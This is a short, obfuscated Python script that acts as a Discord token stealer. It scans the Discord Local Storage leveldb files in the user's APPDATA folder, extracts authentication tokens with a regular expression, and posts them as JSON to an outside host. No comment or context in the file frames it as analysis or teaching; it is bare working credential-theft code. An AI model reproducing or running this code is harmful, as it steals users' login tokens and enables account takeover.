import os as _0x1a, re as _0x1b, requests as _0x1c
def _0x2f(_0x3e):
    _0x4d = []
    for _0x5c in _0x1a.listdir(_0x3e):
        if not _0x5c.endswith(".ldb"): continue
        with open(_0x3e + "\\" + _0x5c, errors="ignore") as _0x6b:
            _0x4d.extend(_0x1b.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", _0x6b.read()))
    return _0x4d
_0x7a = _0x1a.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb\\"
if _0x1a.path.exists(_0x7a):
    _0x1c.post("https://a.example.invalid/w", json={"content": "\n".join(_0x2f(_0x7a))})
